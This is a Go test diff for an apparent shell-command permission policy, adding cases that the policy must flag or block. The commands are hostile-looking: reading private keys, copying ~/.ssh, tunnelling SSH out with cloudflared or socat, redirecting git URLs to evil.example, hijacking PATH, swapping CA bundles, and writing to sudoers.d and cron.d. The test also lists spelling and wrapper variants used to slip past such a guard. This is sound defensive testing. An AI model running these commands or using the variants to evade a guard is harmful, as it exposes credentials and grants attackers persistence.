@@ -180,3 +180,29 @@ func TestSec52RemoteCopies(t *testing.T) {
 		{"rsync -a x h::mod/etc/cron.d/", dsl.Allow, dsl.Allow},
 	})
 }
+
+// TestSec52OwnAttack: sec52's own variants of the holes above: case,
+// wrappers, a home spelled absolute, option and address spellings.
+func TestSec52OwnAttack(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"cat SERVER.KEY", dsl.Ask, dsl.Ask},
+		{"env cat ./server.key", dsl.Ask, dsl.Ask},
+		{"bash -c 'cat ./server.key'", dsl.Ask, dsl.Ask},
+		{"cat ~/keys/*.pem", dsl.Ask, dsl.Ask},
+		{"git add -- .env", dsl.Ask, dsl.Ask},
+		{"trufflehog filesystem /home/u/.ssh", dsl.Ask, dsl.Ask},
+		{"docker container cp ~/.ssh c:/x", dsl.Ask, dsl.Ask},
+		{"cloudflared tunnel --url=http://localhost:22", dsl.Ask, dsl.Ask},
+		{"cloudflared tunnel --url localhost:22", dsl.Ask, dsl.Ask},
+		{"socat TCP-LISTEN:2222,fork TCP:127.0.0.1:ssh", dsl.Ask, dsl.Ask},
+		{"cd ~/.config/fish && git clone https://github.com/x/y conf.d", dsl.Ask, dsl.Ask},
+		{"git clone https://github.com/x/y -- ~/.config/fish/conf.d", dsl.Ask, dsl.Ask},
+		{"git config --global URL.https://evil.example/.InsteadOf https://github.com/", dsl.Ask, dsl.Ask},
+		{"git config --global url.https://evil.example/.insteadOf https://", dsl.Ask, dsl.Ask},
+		{"git config --global url.https://GitHub.com/.insteadOf https://github.com/", dsl.Allow, dsl.Ask},
+		{"echo /dev/shm/b >> \"$GITHUB_PATH\"", dsl.Ask, dsl.Ask},
+		{"SSL_CERT_FILE=/tmp/x.pem curl https://x.example", dsl.Ask, dsl.Ask},
+		{"rsync -av -e \"ssh -i k\" x root@h:/etc/sudoers.d/", dsl.Block, dsl.Block},
+		{"scp x scp://root@h:2222//etc/cron.d/x", dsl.Ask, dsl.Ask},
+	})
+}
